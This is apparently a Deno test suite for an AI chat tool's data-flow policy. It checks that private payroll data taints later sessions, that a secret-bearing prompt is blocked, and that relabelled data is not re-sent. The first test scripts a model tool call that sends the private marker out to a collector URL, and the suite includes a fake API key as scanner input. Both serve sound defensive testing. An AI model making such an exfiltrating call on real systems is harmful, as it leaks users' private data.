/**
 * End to end: what the history carries keeps its weight in later runs. Private data read in one run taints the
 * next run that is sent it again (the flow rule), a withheld result does not lock the chat, and an input the
 * scanners block is refused before older turns are sent to be summarised.
 */
import assert from "node:assert/strict";
import { runPai } from "./helpers/run_pai.ts";
import { openaiSession, type Setup } from "./helpers/session.ts";
import { call, Collector, makeWorkspace, type Workspace } from "./helpers/workspace.ts";

/** A policy that labels `hr/` private and lets openai receive private data (so the data is sent, and taints). */
function privatePayroll(s: Setup, w: Workspace, ceiling: string): void {
  Deno.mkdirSync(`${w.ws}/hr`);
  Deno.writeTextFileSync(`${w.ws}/hr/pay.csv`, "Ann,PAYROLL-MARKER-9931\n");
  Deno.writeTextFileSync(
    `${s.home.dir}/policy.json`,
    JSON.stringify({
      providers: { byName: { openai: ceiling } },
      files: [{ paths: [`${w.ws}/hr/**`], label: "private" }],
    }),
  );
}

Deno.test("private data read in one run taints the next run it is sent to again: its network calls must be approved", async () => {
  const s = await openaiSession({}, ["--locality", "remote"]);
  const w = await makeWorkspace();
  const collector = new Collector();
  try {
    privatePayroll(s, w, "private");
    s.server.enqueue(call("fs_read", { path: "hr/pay.csv" }), { text: "read" });
    const first = await runPai(["chat"], { home: s.home, env: s.env, cwd: w.ws, stdin: "read the payroll\n" });
    assert.equal(first.code, 0, first.stderr);
    assert.match(JSON.stringify(s.server.chatRequests.at(-1)!.body), /PAYROLL-MARKER-9931/, "it was read and sent");

    // A new process, the network pre-granted: what would let the model send the payroll out.
    const url = `http://${collector.hostPort}/x?d=PAYROLL-MARKER-9931`;
    s.server.enqueue(call("http_request", { method: "GET", url }), { text: "done" });
    const second = await runPai(["chat", `--allow-net=${collector.hostPort}`], {
      home: s.home,
      env: s.env,
      cwd: w.ws,
      stdin: "now fetch that\n",
    });
    assert.equal(second.code, 0, second.stderr);
    assert.deepEqual(collector.hits, [], "nothing reached the collector");
    const sent = JSON.stringify(s.server.chatRequests.at(-1)!.body);
    assert.match(
      sent,
      /Not granted: http_request can send data out, and data labelled private \(in the session's history\)/,
    );
  } finally {
    await collector.close();
    w.cleanup();
    await s.close();
  }
});

Deno.test("a withheld result holds only PAI's notice: later chat turns go on", async () => {
  const s = await openaiSession({}, ["--locality", "remote"]);
  const w = await makeWorkspace();
  try {
    privatePayroll(s, w, "internal");
    s.server.enqueue(call("fs_read", { path: "hr/pay.csv" }), { text: "withheld, sorry" });
    const first = await runPai(["chat"], { home: s.home, env: s.env, cwd: w.ws, stdin: "read the payroll\n" });
    assert.equal(first.code, 0, first.stderr);
    const withheld = JSON.stringify(s.server.chatRequests.at(-1)!.body);
    assert.match(withheld, /PAI withheld this result/);
    assert.doesNotMatch(withheld, /PAYROLL-MARKER-9931/);
    const next = await runPai(["chat"], { home: s.home, env: s.env, cwd: w.ws, stdin: "something else\n" });
    assert.equal(next.code, 0, next.stderr);
    assert.equal(next.stdout, "echo: something else\n");
  } finally {
    w.cleanup();
    await s.close();
  }
});

Deno.test("an input the scanners block is refused before older turns are sent to be summarised for it", async () => {
  const s = await openaiSession({}, ["--locality", "remote"]);
  try {
    const window = (contextWindow: number) =>
      Deno.writeTextFileSync(
        `${s.home.dir}/config.json`,
        JSON.stringify({ maxTokens: 100, models: { m: { contextWindow } } }),
      );
    window(100_000);
    const lines = Array.from({ length: 12 }, (_, i) => `Question ${i}: `.padEnd(240, `words about item ${i} `));
    const chat = (stdin: string) => runPai(["chat", "--no-tools"], { home: s.home, env: s.env, stdin });
    assert.equal((await chat(`${lines.join("\n")}\n`)).code, 0);
    // The history now outgrows the window: the next turn would have its older turns summarised first.
    window(1200);
    const before = s.server.chatRequests.length;
    const secret = await chat("Here it is: my key is sk-proj-abcdefghijklmnopqrstuvwxyz0123456789ABCD\n");
    assert.match(secret.stderr, /Not sent: the prompt contains a secret/);
    assert.equal(s.server.chatRequests.length, before, "no summary request, no request at all");
    // Without the secret, the same turn summarises: what the refusal spared.
    assert.equal((await chat("Here it is, without the key\n")).code, 0);
    assert.ok(s.server.chatRequests.length > before + 1, "a summary request, then the turn");
  } finally {
    await s.close();
  }
});

Deno.test("a label is judged when the history is sent, not when it was kept: data labelled private since is not re-sent", async () => {
  const s = await openaiSession({}, ["--locality", "remote"]);
  const w = await makeWorkspace();
  try {
    Deno.writeTextFileSync(`${w.ws}/notes.md`, "NOTES-MARKER-5521\n");
    const pai = (args: string[], stdin?: string) => runPai(args, { home: s.home, env: s.env, cwd: w.ws, stdin });
    assert.equal((await pai(["resource", "add", "notes", "--kind", "file", "--uri", "notes.md"])).code, 0);
    // Attached while internal, and read by a tool: both kept in the history.
    assert.equal((await pai(["chat", "--resource", "notes"], "look at my notes\n")).code, 0);
    s.server.enqueue(call("fs_read", { path: "notes.md" }), { text: "read" });
    assert.equal((await pai(["chat"], "and read them again\n")).code, 0);
    assert.match(JSON.stringify(s.server.chatRequests.at(-1)!.body), /NOTES-MARKER-5521/);

    assert.equal((await pai(["resource", "update", "notes", "--label", "private"])).code, 0);
    const sentBefore = s.server.chatRequests.length;
    const next = await pai(["chat"], "what else?\n");
    assert.match(next.stderr, /Not sent: a message of this session's history holds data labelled private/);
    assert.equal(s.server.chatRequests.length, sentBefore, "nothing was sent");
  } finally {
    w.cleanup();
    await s.close();
  }
});
